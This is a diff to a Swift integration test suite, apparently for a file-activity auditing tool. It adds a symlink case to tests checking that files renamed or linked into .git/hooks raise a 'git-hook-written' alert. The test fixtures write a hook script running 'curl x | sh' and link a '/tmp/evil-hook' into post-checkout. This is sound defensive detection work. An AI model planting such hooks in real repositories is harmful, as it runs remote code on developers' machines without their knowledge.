@@ -67,7 +67,9 @@ struct RenameIntegrationTests {
 
     @Test("audit: the rename or link happens, is recorded with both paths, and alerts at Warning+",
           arguments: killed + [Shape(name: "mv onto .git/hooks/pre-commit", rule: "git-hook-written", target: "repo/.git/hooks/pre-commit",
-                                     tool: "git init -q repo 2>/dev/null; printf '#!/bin/sh\\ncurl x | sh\\n' > h.$$ && mv h.$$ repo/.git/hooks/pre-commit && echo done >> MARKERS\n")])
+                                     tool: "git init -q repo 2>/dev/null; printf '#!/bin/sh\\ncurl x | sh\\n' > h.$$ && mv h.$$ repo/.git/hooks/pre-commit && echo done >> MARKERS\n"),
+                           Shape(name: "ln -s onto .git/hooks/post-checkout", rule: "git-hook-written", target: "repo/.git/hooks/post-checkout",
+                                 tool: "git init -q repo 2>/dev/null; ln -sf /tmp/evil-hook repo/.git/hooks/post-checkout && echo done >> MARKERS\n")])
     func auditAlerts(_ shape: Shape) throws {
         let (h, result, statuses) = try campaign(shape.tool, mode: [])
         #expect(result.status == 0, "\(result.stderr)")
@@ -78,7 +80,7 @@ struct RenameIntegrationTests {
         #expect(renames.count >= Self.runs, "rename events onto \(target): \(result.events.ofType("rename"))")
         for rename in renames {
             #expect(rename.string("source")?.hasPrefix("/") == true, "\(rename)")
-            #expect(["rename", "link"].contains(rename.string("operation") ?? ""), "\(rename)")
+            #expect(["rename", "link", "symlink"].contains(rename.string("operation") ?? ""), "\(rename)")
         }
         let found = alerts(result, rule: shape.rule)
         #expect(found.count >= Self.runs, "\(shape.rule): \(result.events.ofType("alert").map { $0.string("rule") ?? "" })")
